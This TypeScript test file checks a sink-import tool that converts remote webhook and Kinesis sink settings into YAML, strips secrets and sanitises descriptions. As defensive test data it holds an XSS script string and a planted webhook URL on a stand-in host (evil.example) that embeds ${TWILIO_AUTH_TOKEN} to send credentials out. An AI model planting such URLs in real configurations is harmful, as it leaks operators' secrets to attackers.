import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadDesired } from '../../src/desired/load.js';
import { importSinks, plainDescription } from '../../src/import/to-yaml.js';
import type { RemoteSink } from '../../src/remote/model.js';

const sid = (n: number): string => `DG${n.toString(16).padStart(32, '0')}`;
const sink = (n: number, sinkType: string, description: string, sinkConfiguration: Record<string, unknown>): RemoteSink => ({
  sid: sid(n),
  description,
  sinkType,
  sinkConfiguration,
  status: 'active',
  dateCreated: null,
  dateUpdated: null,
});

const KINESIS = { arn: 'arn:aws:kinesis:us-east-1:1:stream/s', role_arn: 'arn:aws:iam::1:role/r', external_id: 'very-secret-id' };

describe('importSinks', () => {
  it('pins each unmanaged sink by sid and replaces secrets with ${…} references', () => {
    const result = importSinks([sink(1, 'kinesis', 'Orders stream', KINESIS)], new Set(), '../schemas/sink.schema.json');
    expect(result.sinks).toHaveLength(1);
    const [imported] = result.sinks;
    expect(imported?.name).toBe('orders-stream');
    expect(imported?.yaml).toContain(`sid: ${sid(1)}`);
    expect(imported?.yaml).toContain('external_id: ${ORDERS_STREAM_EXTERNAL_ID}');
    expect(imported?.yaml).not.toContain('very-secret-id');
    expect(imported?.yaml).toMatch(/^# yaml-language-server: \$schema=\.\.\/schemas\/sink\.schema\.json/);
    expect(imported?.variables).toEqual([{ name: 'ORDERS_STREAM_EXTERNAL_ID', holds: `external_id of ${sid(1)}` }]);
  });

  it('skips managed sinks, sinks the repository pins, and types sinkops does not manage', () => {
    const result = importSinks(
      [
        sink(1, 'email', 'Digest', {}),
        sink(2, 'webhook', 'Hook [sinkops:hook]', { destination: 'https://e.org', method: 'POST' }),
        sink(3, 'webhook', 'Pinned', { destination: 'https://e.org', method: 'POST' }),
      ],
      new Set(),
      's.json',
      new Map([[sid(3), 'pinned-hook']]),
    );
    expect(result.sinks).toEqual([]);
    expect(result.skipped.map((s) => s.sid)).toEqual([sid(1), sid(2), sid(3)]);
  });

  it('makes names unique against the repository and each other', () => {
    const hook = { destination: 'https://e.org', method: 'POST' };
    const result = importSinks([sink(1, 'webhook', 'Hook', hook), sink(2, 'webhook', 'Hook', hook), sink(3, 'webhook', '', hook)], new Set(['hook']), 's.json');
    expect(result.sinks.map((s) => s.name)).toEqual(['hook-2', 'hook-3', 'webhook-000003']);
  });

  it('writes files that validate accepts, whatever the Console description held', async () => {
    const hostile = `<script>alert(1)</script> Orders\nhook [sinkops:x] <b ${'long '.repeat(60)}`;
    const dir = await mkdtemp(join(tmpdir(), 'sinkops-import-'));
    try {
      const result = importSinks([sink(1, 'webhook', hostile, { destination: 'https://e.org/h', method: 'GET', batch_events: 'true' })], new Set(), 's.json');
      for (const s of result.sinks) await writeFile(join(dir, `${s.name}.yaml`), s.yaml);
      const state = await loadDesired(dir, { cwd: dir, env: {} });
      expect(state.diagnostics).toEqual([]);
      expect(state.sinks[0]?.sinkConfiguration['batch_events']?.value).toBe(true);
      expect(state.sinks[0]?.description.length).toBeLessThanOrEqual(200);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('importSinks: remote values stay literal', () => {
  it('writes a Console value holding ${…} so that loading it gives the same text and references nothing', async () => {
    // Anyone who can edit sinks in the Console could plant this; after import, apply would otherwise
    // fill in the operator's credentials and send them to the destination.
    const destination = 'https://evil.example/in?t=${TWILIO_AUTH_TOKEN}&u=${HOME}&lit=$${x}';
    const result = importSinks([sink(1, 'webhook', 'Planted', { destination, method: 'POST' })], new Set(), 's.json');
    const dir = await mkdtemp(join(tmpdir(), 'sinkops-import-'));
    try {
      for (const s of result.sinks) await writeFile(join(dir, `${s.name}.yaml`), s.yaml);
      const state = await loadDesired(dir, { cwd: dir, env: { TWILIO_AUTH_TOKEN: 'operator-token', HOME: '/root' } });
      expect(state.diagnostics).toEqual([]);
      expect(state.sinks[0]?.sinkConfiguration['destination']).toEqual({ value: destination, sensitive: false, envRefs: [] });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('plainDescription', () => {
  it.each([
    ['Orders events', 'Orders events'],
    ['<b>bold</b> text', 'bold text'],
    ['a <script', 'a ‹script'],
    ['line one\nline two\t!', 'line one line two !'],
    ['x [sinkops:y]', 'x [sinkops y]'],
    ['   ', ''],
  ])('%j → %j', (input, output) => {
    expect(plainDescription(input)).toBe(output);
  });
});
